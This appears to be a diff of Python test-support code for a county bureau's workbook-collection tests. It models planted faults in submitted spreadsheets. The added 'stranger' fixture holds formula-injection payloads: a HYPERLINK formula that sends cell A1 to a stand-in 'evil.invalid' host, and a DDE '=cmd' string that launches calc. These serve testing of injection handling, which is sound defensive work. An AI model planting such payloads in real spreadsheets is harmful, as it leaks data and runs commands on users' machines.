@@ -5,12 +5,14 @@ Who does what is data here; what the bureau must find of each follows from it an
 
 import csv
 import io
+import re
 from collections.abc import Iterator
 from dataclasses import dataclass, replace
 from functools import cached_property
-from typing import Literal
+from typing import Any, Literal
 
 from tests.support.county.departments import Department, department, departments
+from tests.support.county.mould import Formula
 from tests.support.county.plantings import (
     ENTRIES,
     FILES,
@@ -33,6 +35,14 @@ REASON = "个别数字正在与业务部门核对，先行报送。"
 _COPIES, _PARAPHRASES = {5: 2}, {11: 8}
 _PERFECT = 4
 _ALTERED, _TWICE = 6, 7
+_UNDERSTOOD = frozenset({"full-width digits", "a unit behind a number", "thousands separators as text"})
+"""Faults whose meaning is beyond doubt: the bureau counts with what was meant."""
+_LOST = {"a sheet removed": "重点工作", "all names of a sheet lost": "项目清单"}
+_REFUSED = frozenset({"a negative count", "a score beyond the indicator's points"})
+"""Numbers that cannot be: they count for nothing."""
+_TABLES = {"项目": "项目清单", "重点工作": "重点工作", "成效": "成效"}
+_TABLE_CELL = re.compile(r"(?P<prefix>\w+)_(?P<column>\w+)\[(?P<row>\d+)\]")
+STRANGE_NAME = '=HYPERLINK("http://evil.invalid/?"&A1,"示例县领奖局")'
 _WITH_ERRORS = (3, 24)
 _FINISHED = (2, 5, 8, 10, 14, 60)
 """Besides those that do something of their own; finishing takes longest of all, so the others do without."""
@@ -79,8 +89,8 @@ class Season:
 
     @cached_property
     def counted(self) -> tuple[Department, ...]:
-        """All whose last workbook can be read: those that the summary is about."""
-        return (*(one.department for one in self.senders), department(STRANGER))
+        """What the last workbook of each tells, faults and all: what the summary is about."""
+        return (*map(as_told, self.senders), stranger())
 
     def roster(self) -> str:
         """The roster: 62 units, as CSV."""
@@ -121,6 +131,46 @@ def _writing(one: Department) -> Department:
     if one.number in _PARAPHRASES:
         return paraphrased(one, department(_PARAPHRASES[one.number]))
     return perfect(one) if one.number == _PERFECT else one
+
+
+def stranger() -> Department:
+    """Nobody knows it, and it would like its name and its texts to be run as formulas."""
+    one = department(STRANGER)
+    texts = (
+        {"标题": "=cmd|' /C calc'!A0", "内容": "+HYPERLINK(A1)&SUM(1)：全年办理事项326件，群众反映良好。"},
+    )
+    values = dict(one.values) | {"部门名称": STRANGE_NAME, "预算编码": "=1+1"}
+    return replace(one, values=values, tables=dict(one.tables) | {"成效": texts})
+
+
+def as_told(sender: Sender) -> Department:
+    """What the workbook tells: the department's entries, but for those that its fault has changed or lost."""
+    one, fault = sender.department, sender.planting
+    if fault is None:
+        return one
+    values, tables = dict(one.values), dict(one.tables)
+    for name, edit in fault.edits(one).items():
+        told = None if fault.name in _REFUSED else _told(edit, values.get(name), fault)
+        if cell := _TABLE_CELL.fullmatch(name):
+            table = _TABLES[cell["prefix"]]
+            rows = [dict(row) for row in tables[table]]
+            rows[int(cell["row"]) - 1][cell["column"]] = told
+            tables[table] = tuple(rows)
+        elif name in values:
+            values[name] = told
+    lost = _LOST.get(fault.name)
+    return replace(one, values=values, tables=tables | ({lost: None} if lost else {}))
+
+
+def _told(edit: Any, before: Any, fault: Planting) -> Any:
+    """What a cell tells that holds ``edit`` where a proper value of the kind of ``before`` belongs."""
+    if fault.name in _UNDERSTOOD:
+        return before
+    if isinstance(edit, Formula):
+        edit = None if str(edit.value).startswith("#") else edit.value
+    if isinstance(before, int | float) and not isinstance(edit, int | float):
+        return None
+    return edit
 
 
 def first_version(sender: Sender) -> Sender:
